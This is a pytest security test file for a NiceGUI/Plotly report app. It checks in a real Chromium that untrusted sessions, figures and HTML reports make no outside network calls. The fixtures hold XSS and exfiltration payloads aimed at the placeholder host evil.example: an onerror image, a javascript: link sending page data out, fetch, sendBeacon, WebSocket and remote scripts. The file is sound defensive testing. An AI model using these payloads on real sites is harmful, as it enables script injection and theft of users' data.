"""A session that a stranger made, in a real Chromium: nothing that it holds makes the browser call anybody."""

import json
import socket
import threading
from urllib.parse import urlsplit

import pytest
from app_served import app, browser, until

from sysid.report import page
from sysid.report.page import Page, Section
from twin.app import stored
from twin.app.entries import Model, Prepare, Setting, Study
from twin.app.session import Session

pytest.importorskip("nicegui", reason="NiceGUI is in the app extra")

MODEL = Model(
    name="output_error (1,1,1)",
    data="d1",
    prepare=Prepare(),
    setting=Setting(structure="output_error"),
    fit_estimation=90.0,
    fit_validation=80.0,
    d=3,
    N=200,
    seconds=1.0,
    converged=True,
)
ACTS = '<img src="http://evil.example/t.png" onerror="document.title=\'owned\'">'
STEALS = "document.title='owned'; location='http://evil.example/?'+document.body.innerText.length"


class Trap:
    """A port that counts who connects; every foreign name of the browser under test leads to it."""

    def __init__(self):
        self.calls = []
        self._listening = socket.create_server(("127.0.0.1", 0))
        self.port = self._listening.getsockname()[1]
        threading.Thread(target=self._count, daemon=True).start()

    def _count(self):
        while True:
            try:
                line, _ = self._listening.accept()
            except OSError:
                return
            line.settimeout(2)
            try:
                self.calls.append(line.recv(200))
            except OSError:
                self.calls.append(b"a connection")
            line.close()

    def close(self):
        self._listening.close()


@pytest.fixture(scope="module")
def trap():
    made = Trap()
    yield made
    made.close()


@pytest.fixture(scope="module")
def watched(trap, tmp_path_factory):
    place = tmp_path_factory.mktemp("watched")
    with browser(place, f"--host-resolver-rules=MAP *.example 127.0.0.1:{trap.port}", log=True) as driver:
        yield driver


def hosts(driver):
    """Hosts to which the browser has sent a request since the last look; what a policy stopped has not been sent."""
    rows = [json.loads(row["message"])["message"] for row in driver.get_log("performance")]
    parts = [(row["method"], row["params"]) for row in rows]
    stopped = {each["requestId"] for name, each in parts if name == "Network.loadingFailed" and "blockedReason" in each}
    begun = [each for name, each in parts if name == "Network.requestWillBeSent" and each["requestId"] not in stopped]
    urls = [urlsplit(each["request"]["url"]) for each in begun]
    return {url.netloc for url in urls if url.scheme in ("http", "https", "ws", "wss")}


def wait(driver, seconds=2.5):
    """For what a page does late."""
    driver.execute_async_script(f"setTimeout(arguments[0], {1000 * seconds})")


PICTURE = {"source": "http://evil.example/layout.png", "xref": "paper", "yref": "paper", "sizex": 1, "sizey": 1}


def figure(**layout):
    axis = {"domain": [0.0, 1.0]}
    base = {
        "height": 300,
        "font": {"color": "#1f2933"},
        "annotations": [{"text": f"note {ACTS}"}],
        "shapes": [],
        "xaxis": axis,
        "yaxis": axis,
    }
    trace = {"type": "scatter", "x": [0, 1], "y": [0, 1], "name": ACTS}
    return {"data": [trace], "layout": {**base, **layout}}


# All at once: what plotly or the page may take for an address, a part of the page, or an order.
BAD_FIGURES = {
    "picture": figure(images=[PICTURE]),
    "map": {"data": [{"type": "scattermap", "lat": [0], "lon": [0]}], "layout": figure()["layout"]},
    "style": figure(map={"style": "http://evil.example/style.json"}),
    "picture in an axis": figure(xaxis={"images": [PICTURE]}),
    "template": figure(template={"layout": {"images": [PICTURE]}}),
    "button": figure(
        updatemenus=[{"buttons": [{"method": "relayout", "args": [{"images[0].source": "http://evil.example/b.png"}]}]}]
    ),
    "restyled": figure(updatemenus=[{"buttons": [{"method": "restyle", "args": [{"type": "scattermap"}]}]}]),
    "no axes to stack": figure(meta={"beside": 4}),
    "a meta that is text": figure(meta="beside"),
    "no traces": {"data": "x", "layout": {"height": 1}},
    "a list": [],
    "endless height": figure(height=10**9),
    "height as text": figure(height="url(http://evil.example)"),
}


@pytest.mark.parametrize("name", BAD_FIGURES)
def test_a_figure_with_a_foreign_part_is_not_taken(name):
    content = json.dumps({"free-run": {"figure": BAD_FIGURES[name], "caption": ""}}).encode()
    with pytest.raises(ValueError, match=r"^$"):
        stored.figures(content)


@pytest.mark.parametrize(
    "content",
    [
        {"x onclick=alert(1)": {"figure": figure(), "caption": ""}},
        {"free-run": {"figure": figure(), "caption": {"html": ACTS}}},
        {"free-run": {"figure": figure()}},
        [],
        "figures",
    ],
)
def test_a_file_of_figures_of_another_layout_is_not_taken(content):
    with pytest.raises(ValueError, match=r"^$"):
        stored.figures(json.dumps(content).encode())


def test_texts_of_a_figure_have_no_links():
    stored_figure = stored.figure(figure(annotations=[{"text": "<A href='http://evil.example'>x</a> <b>y</b>"}]))
    assert stored_figure["layout"]["annotations"] == [{"text": "&lt;A href='http://evil.example'>x&lt;/a> <b>y</b>"}]


REPORT = f"""<!doctype html><html><head><title>report</title><base href="http://evil.example/">
<link rel="preconnect" href="http://pre.example"><link rel="dns-prefetch" href="http://dns.example">
<link rel="stylesheet" href="http://evil.example/a.css"><link rel="icon" href="http://evil.example/i.png">
<meta http-equiv="refresh" content="1;url=http://evil.example/refresh">
<style>@import "http://evil.example/b.css"; body {{ background: url(http://evil.example/c.png) }}</style></head><body>
<main><h1>The report</h1>{ACTS}<iframe src="http://evil.example/f"></iframe><object data="http://evil.example/o"></object>
<video autoplay src="http://evil.example/v"></video><svg><image href="http://evil.example/s.png"/></svg>
<a href="http://evil.example/click">more</a><a href="javascript:{STEALS}">run</a>
<form action="http://evil.example/form"><input name="x"></form>
<figure><div class="zoom" id="zoom-a" style="height:300px;background:url(http://evil.example/d.png)"></div>
<script type="application/json" data-for="zoom-a">{json.dumps(figure()).replace("<", chr(92) + "u003c")}
</script></figure>
<script src="http://evil.example/x.js"></script>
<script>fetch('http://evil.example/fetch'); navigator.sendBeacon('http://evil.example/beacon', 'x');
new WebSocket('ws://evil.example/ws'); setTimeout(() => {{ {STEALS} }}, 1500);</script></main></body></html>"""


def stranger(folder, **more):
    """A session whose figures and reports call a foreign host in many ways."""
    session = Session.open(folder)

    def fill(path):
        plots = {"free-run": {"figure": figure(**more), "caption": ACTS}}
        (path / "figures.json").write_text(json.dumps(plots))
        (path / "report.html").write_text(REPORT)

    session.add(MODEL, fill)
    session.add(Study(kind="compare", data="d1", joint="thigh", sentences=(ACTS,)), fill)
    session.close()
    return folder


@pytest.mark.parametrize("more", [pytest.param({}, marks=pytest.mark.nightly), {"images": [PICTURE]}])
def test_a_session_of_a_stranger_calls_nobody(watched, trap, tmp_path, more):
    with app(stranger(tmp_path / "session", **more)) as served:
        own = {f"127.0.0.1:{served.port}"}
        watched.get(served.address)
        until(lambda: watched.find_elements("css selector", '[data-mark="board"]'), "the board")
        if more:
            until(lambda: "the figures of m1 are damaged" in watched.page_source, "the sentence", 40)
        else:
            until(
                lambda: watched.find_elements("css selector", '[data-mark="figure-free-run"] .main-svg'),
                "the figure",
                40,
            )
        wait(watched)
        assert hosts(watched) == own
        for kind, key in (("models", "m1"), ("studies", "s1")):
            address = f"http://127.0.0.1:{served.port}/files/{kind}/{key}/report.html"
            watched.get(address)
            wait(watched)
            assert watched.current_url == address
            until(lambda: watched.title == "report", "the report")
            assert "The report" in watched.page_source
            assert watched.find_elements("css selector", ".zoom .main-svg")  # its own figures are still drawn
            assert not watched.find_elements("css selector", "a[href], form, iframe, object, video")
            assert hosts(watched) == own
    assert trap.calls == []


def test_a_report_from_a_file_calls_nobody_whatever_stands_in_it(watched, trap, tmp_path):
    """The policy holds alone: here markup is put into the page that no report lets through.

    Without the frame: Chromium connects to its host ahead of the policy, and asks nothing.
    """
    markup = REPORT[REPORT.index("<main>") : REPORT.index("</main>")].replace("<iframe", "<b")
    plots = [page.element(figure(images=[PICTURE]), "a"), markup]
    sections = [Section(f"heading {ACTS}", [ACTS], plots=plots)]
    text = Page(ACTS, ACTS, [ACTS], sections).html(beside=True)
    (tmp_path / "report.html").write_text(text)
    (tmp_path / page.SCRIPT).write_text(page.script())
    watched.get(f"file://{tmp_path}/report.html")
    until(lambda: watched.find_elements("css selector", "#zoom-a .main-svg"), "the figure", 40)
    wait(watched)
    assert watched.title == ACTS  # no script of the page has changed it
    assert hosts(watched) == set()
    assert trap.calls == []
